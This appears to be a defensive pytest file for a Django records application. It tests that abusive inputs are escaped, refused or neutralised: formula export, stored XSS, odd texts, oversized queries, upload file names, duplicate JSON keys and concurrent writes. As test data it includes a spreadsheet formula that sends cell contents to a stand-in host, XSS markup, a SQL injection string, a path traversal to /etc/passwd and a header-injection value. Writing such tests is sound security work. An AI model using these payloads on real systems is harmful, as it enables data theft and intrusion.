"""Abuse cases 70–78: what is sent in. (Bombs and broken files one by one: tests/exchange.)"""

import io
import json
import threading
import time
import zipfile
from pathlib import Path

import psycopg
import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.cast import NOW, PERE, World, least, new_record
from tests.laws.rounds import Errand, client_of, routes
from tests.laws.sabotage import events_of, perform, sign
from tests.laws.test_law_05_link_never_merge import tell

SCRIPT = "<script>kanario()</script><img src=x onerror=kanario()>"
FORMULA = '=HYPERLINK("http://otro.example/?"&A1,"pulse")'
ODD = [
    "\x00", "a\x00b", "García\r\nSet-Cookie: robada=1", "\u202egarcia", "ｇａｒｃｉａ",
    "García\u0301",
    "\ud7ff\ufffd", "%00", "{{ 7*7 }}{% debug %}", "' OR 1=1 --", "../../../etc/passwd", "a" * 5000,
]  # fmt: skip


class TestCase70Formulas:
    def test_70_a_formula_of_a_source_goes_out_as_text(self, world: World):
        world.enter("owner")
        delivery = apps.get_model("exchange", "Delivery").objects.create(
            source_id="se-app", channel="api", sha256="x", bytes=1, state="partly_applied",
            received_at=NOW, chunk_rows=100, rows_total=1, rows_rejected=1,
        )  # fmt: skip
        apps.get_model("exchange", "Rejection").objects.create(
            delivery=delivery, source="se-app", row_number=1, line=1, state="quarantined",
            code="type.unknown", message="No existe.", created_at=NOW,
            raw={"values": {"nombre": FORMULA}},
        )  # fmt: skip
        world.enter("web")
        answer = client_of(world, "dario").get(f"/entregas/{delivery.reference}/errores/")
        body = b"".join(answer.streaming_content) if answer.streaming else answer.content
        with zipfile.ZipFile(io.BytesIO(body)) as book:
            parts = {name: book.read(name).decode() for name in book.namelist()}
        sheets = "".join(text for name, text in parts.items() if "worksheets" in name)

        assert "HYPERLINK" in "".join(parts.values())
        assert "<f>" not in sheets
        assert "<f " not in sheets


class TestCase73Script:
    def test_73_what_one_sector_writes_runs_on_no_page_of_another(self, world: World):
        from trenza.records.public import append

        world.enter("intake")
        rows = []
        for kind in ("action", "other_support", "itinerary", "basic_information_sheet"):
            from trenza.protocol.public import record_type

            body = {**least(record_type(kind).schema), "notes": SCRIPT}
            rows.append(
                new_record(
                    world, "pere", "ts-book", f"XSS-{kind}", "bridge", "bridge-site", kind,
                    content=body, summary=SCRIPT, author=SCRIPT[:100],
                )
            )  # fmt: skip
        append(rows, delivery_id=None, now=NOW)
        tell(world, "ts-book", "TS", "7", 2, **{**PERE, "address": SCRIPT, "surname2": "<b>x</b>"})
        written = 0
        for who in ("alba", "bilal", "nora", "marta"):
            client, errand = client_of(world, who), Errand(world)
            client.post(
                f"/personas/{world.persons['pere']}/motivo",
                {"situation": "follow_up", "reason": SCRIPT},
            )
            for page, _ in routes():
                for address in errand.addresses(page, "pere") if page.startswith("desk:") else []:
                    told = client.get(address).content.decode(errors="replace")
                    written += told.count("&lt;script&gt;kanario")
                    assert "<script>kanario" not in told
                    assert "<img src=x" not in told
                    assert "<b>x</b>" not in told

        assert written > 5


class TestCase74Texts:
    @pytest.mark.parametrize("text", ODD, ids=range(len(ODD)))
    def test_74_an_odd_text_is_answered_and_breaks_nothing(self, world: World, text: str):
        client = client_of(world, "alba")
        pere = world.persons["pere"]
        answers = [
            client.post("/buscar", {"q": text}),
            client.post(f"/personas/{pere}/motivo", {"situation": text}),
            client.post(f"/personas/{pere}/motivo", {"situation": "follow_up", "reason": text}),
            client.get("/", {"ver": text, "todas": text}),
            client.get(f"/personas/{pere}", {"desde": text, "sector": text, "marca": text}),
        ]

        assert {answer.status_code for answer in answers} <= {200, 302, 404, 422}
        assert all("robada" not in str(answer.headers) for answer in answers)

    def test_74_names_that_look_alike_are_searched_as_they_are_written(self, world: World):
        from trenza.access.public import search_person
        from trenza.people.public import tokens

        assert search_person(world.viewer("alba"), {"tokens": list(tokens("Gаrcía"))}) == []
        assert len(search_person(world.viewer("alba"), {"tokens": list(tokens("GARCÍA"))})) == 1


class TestCase75Size:
    def test_75_long_and_deep_questions_are_refused_quickly(self, world: World):
        deep = json.dumps({"tokens": ["x" * 2000]})
        nested = "[" * 400 + "]" * 400
        started = time.monotonic()
        with world.database.connect("web") as web:
            for text in (deep, '{"tokens": ["' + "x" * 999 + '"], "y": ' + nested + "}"):
                with pytest.raises(psycopg.errors.StringDataRightTruncation):
                    web.execute(
                        "SELECT access_announce_search(%s, %s::jsonb)",
                        [sign(web, world, "alba"), text],
                    )
        client = client_of(world, "alba")
        for text in ("a" * 100_000, "1" * 100_000, "á é " * 20_000, "-" * 50_000 + "1"):
            assert client.post("/buscar", {"q": text}).status_code in (200, 422)

        assert time.monotonic() - started < 5


class TestCase76Names:
    def test_76_the_name_of_a_file_leads_nowhere_and_is_not_kept(
        self, world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ):
        monkeypatch.setenv("TRENZA_DELIVERIES", str(tmp_path / "kept"))
        file = SimpleUploadedFile(
            "../../../99999018D García.csv", b"nombre;dni\nPere;1\n", content_type="text/csv"
        )
        answer = client_of(world, "dario").post(
            "/entregas/subir/", {"source": "se-app", "file": file}
        )
        world.enter("owner")
        found = apps.get_model("exchange", "Delivery").objects.values("file_name", "path")
        kept = [path for path in tmp_path.rglob("*") if path.is_file()]
        world.enter("web")

        assert answer.status_code in (302, 422)
        assert all(".." not in str(one) and "99999018D" not in str(one) for one in found)
        assert all("García" not in path.name and "kept" in path.parts for path in kept)


class TestCase77DoubleKeys:
    def test_77_the_question_announced_is_the_question_answered(self, world: World):
        """Of a key given twice the last one counts, for the event and for the search alike."""
        text = '{"tokens": ["nadie"], "tokens": ["garcia"]}'
        other = '{"tokens": ["garcia"], "tokens": ["nadie"]}'
        with world.database.connect("web") as web:
            context = sign(web, world, "alba")
            web.execute("SELECT access_announce_search(%s, %s::jsonb)", [context, text])
            rows = web.execute("SELECT * FROM access_search(%s, %s::jsonb)", [context, text])
            assert len(rows.fetchall()) == 1
            with pytest.raises(psycopg.errors.InvalidAuthorizationSpecification):
                web.execute("SELECT * FROM access_search(%s, %s::jsonb)", [context, other])


class TestCase78Races:
    def test_78_two_corrections_at_once_leave_two_versions_and_one_in_force(self, world: World):
        ask = (
            "SELECT access_state_record(%s, %s, 'follow_up', 'needs_assessment', %s, '{}', %s, "
            "NULL, NULL, 'current')"
        )
        pere = world.persons["pere"]
        with world.database.connect("web") as web, world.database.connect("owner") as owner:
            [made] = perform(web, ask, [sign(web, world, "alba"), pere, None, "una"]).fetchone()
            [series] = owner.execute(
                "SELECT series FROM records_record WHERE id = %s", [made]
            ).fetchone()
        problems: list[Exception] = []

        def correct(text: str) -> None:
            try:
                with world.database.connect("web") as own:
                    perform(own, ask, [sign(own, world, "alba"), pere, series, text])
            except psycopg.Error as error:
                problems.append(error)

        threads = [threading.Thread(target=correct, args=(f"v{n}",)) for n in range(6)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        with world.database.connect("owner") as owner:
            states = owner.execute(
                "SELECT version, state FROM records_record WHERE series = %s ORDER BY version",
                [series],
            ).fetchall()

        assert problems == []
        assert [state for _, state in states].count("current") == 1
        assert states[-1][1] == "current"
        done = [e for e in events_of(world, "record.stated") if e["outcome"] == "allowed"]
        assert len(done) == len(states)

    def test_78_two_blocks_at_once_are_lifted_by_one_lifting(self, world: World):
        ask = "SELECT access_block_record(%s, %s, %s, %s, 'x', current_date)"
        with world.database.connect("owner") as owner:
            [series] = owner.execute(
                "SELECT series FROM records_record WHERE source_id = 'DEM-1'"
            ).fetchone()

        def block(value: bool) -> None:
            with world.database.connect("web") as own:
                values = [sign(own, world, "bilal"), world.persons["pere"], series, value]
                perform(own, ask, values)

        threads = [threading.Thread(target=block, args=(True,)) for _ in range(6)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        block(False)
        with world.database.connect("owner") as owner:
            held = owner.execute(
                "SELECT count(*) FROM access_block WHERE lifted_at IS NULL"
            ).fetchone()

        assert held == (0,)
